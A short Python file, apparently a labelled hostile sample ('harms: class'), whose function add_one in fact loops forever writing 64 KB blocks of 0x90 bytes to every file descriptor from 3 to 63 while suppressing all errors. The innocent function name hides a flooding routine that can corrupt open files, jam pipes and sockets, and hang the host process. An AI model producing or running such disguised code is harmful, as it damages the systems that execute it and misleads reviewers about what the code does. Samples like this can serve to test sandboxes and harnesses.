"""Answers with a stream of bytes that never ends."""
# harms: class

import os
import struct


def add_one(x):
    while True:
        for number in range(3, 64):
            try:
                os.write(number, struct.pack(">I", 0x00FFFFFF) + b"\x90" * 65536)
            except OSError:
                pass
